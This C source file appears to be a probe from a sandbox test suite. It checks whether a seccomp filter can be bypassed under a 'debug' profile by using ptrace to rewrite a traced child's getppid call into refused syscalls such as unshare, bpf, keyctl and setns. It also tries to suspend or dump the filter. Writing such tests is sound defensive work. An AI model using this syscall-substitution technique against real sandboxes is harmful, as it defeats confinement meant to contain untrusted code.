/* Uses what the profile `debug` grants to get past the filter: turns a harmless call of its child into a refused one
 * at each stop a tracer gets, and asks for the filter to be suspended. */
#include "attack.h"

#include <elf.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <stddef.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>

#ifndef PTRACE_O_SUSPEND_SECCOMP
#define PTRACE_O_SUSPEND_SECCOMP (1 << 21)
#endif
#define X32 0x40000000L

static int set_number(pid_t pid, long number) {
#if defined(__x86_64__)
    return (int)ptrace(PTRACE_POKEUSER, pid, offsetof(struct user_regs_struct, orig_rax), number);
#else
    int word = (int)number;
    struct iovec part = {&word, sizeof word};
    return (int)ptrace(PTRACE_SETREGSET, pid, 0x404 /* NT_ARM_SYSTEM_CALL */, &part);
#endif
}

/* Lets a tracer decide about getppid. */
static void ask_the_tracer(void) {
    struct sock_filter rules[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {sizeof rules / sizeof *rules, rules};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program, 0, 0);
}

/* The child calls getppid with the arguments of another call; its exit code is what it was answered. */
static void tracee(int by_filter) {
    ptrace(PTRACE_TRACEME, 0, 0, 0);
    raise(SIGSTOP);
    if (by_filter) ask_the_tracer();
    long result = syscall(SYS_getppid, CLONE_NEWUSER, 0, 0, 0, 0, 0);
    _exit(result == -1 ? errno : 100);
}

/* Runs it to the stop before getppid, puts `number` in its place, and says how it ended. */
static void swap(const char *name, long number, int by_filter) {
    int status = 0, done = 0;
    pid_t pid = fork();
    if (pid == 0) tracee(by_filter);
    waitpid(pid, &status, 0);
    if (ptrace(PTRACE_SETOPTIONS, pid, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACESECCOMP | PTRACE_O_EXITKILL) == -1) {
        report(name, errno_name(errno));
        kill(pid, SIGKILL);
        waitpid(pid, NULL, 0);
        return;
    }
    for (int stops = 0; stops < 100 && WIFSTOPPED(status); stops++) {
        struct user_regs_struct now;
        struct iovec registers = {&now, sizeof now};
        int at_filter = status >> 8 == (SIGTRAP | PTRACE_EVENT_SECCOMP << 8);
        int at_call = WSTOPSIG(status) == (SIGTRAP | 0x80);
        ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, &registers);
#if defined(__x86_64__)
        int harmless = now.orig_rax == SYS_getppid;
#else
        int harmless = now.regs[8] == SYS_getppid;
#endif
        if (!done && harmless && (by_filter ? at_filter : at_call)) done = set_number(pid, number) == 0;
        ptrace(by_filter ? PTRACE_CONT : PTRACE_SYSCALL, pid, 0, 0);
        waitpid(pid, &status, 0);
    }
    if (!done) report(name, "never stopped");
    else if (WIFSIGNALED(status)) report(name, named("killed %s", signal_name(WTERMSIG(status))));
    else report(name, WEXITSTATUS(status) == 100 ? "ok" : errno_name(WEXITSTATUS(status)));
}

static long suspend_filter(void) {
    int status;
    pid_t pid = fork();
    if (pid == 0) {
        raise(SIGSTOP);
        _exit(syscall(SYS_unshare, CLONE_NEWUSER) == -1 ? errno : 100);
    }
    waitpid(pid, &status, WUNTRACED);
    long seized = ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_SUSPEND_SECCOMP);
    int error = errno;
    kill(pid, SIGKILL);
    waitpid(pid, NULL, 0);
    errno = error;
    return seized;
}

static long dump_filter(void) {
    struct sock_filter code[4096];
    int status;
    pid_t pid = fork();
    if (pid == 0)
        for (;;) pause();
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == -1 || ptrace(PTRACE_INTERRUPT, pid, 0, 0) == -1) return -2;
    waitpid(pid, &status, 0);
    long length = ptrace(PTRACE_SECCOMP_GET_FILTER, pid, 0, code);
    int error = errno;
    kill(pid, SIGKILL);
    waitpid(pid, NULL, 0);
    errno = error;
    return length;
}

int main(void) {
    static const struct {
        const char *name;
        long number;
    } refused[] = {{"unshare", SYS_unshare}, {"bpf", SYS_bpf}, {"keyctl", SYS_keyctl}, {"setns", SYS_setns}};
    for (size_t i = 0; i < sizeof refused / sizeof *refused; i++) {
        swap(named("at the call: %s", refused[i].name), refused[i].number, 0);
        swap(named("at the filter: %s", refused[i].name), refused[i].number, 1);
    }
    swap("at the call: clone3", SYS_clone3, 0);
    swap("at the filter: clone3", SYS_clone3, 1);
#if defined(__x86_64__)
    swap("foreign: at the call", X32 | SYS_getpid, 0);
    swap("foreign: at the filter", X32 | SYS_getpid, 1);
#endif
    attempt("suspend the filter", suspend_filter());
    attempt("copy the filter", dump_filter());
    swap("tracing works", SYS_getuid, 0);
    return 0;
}
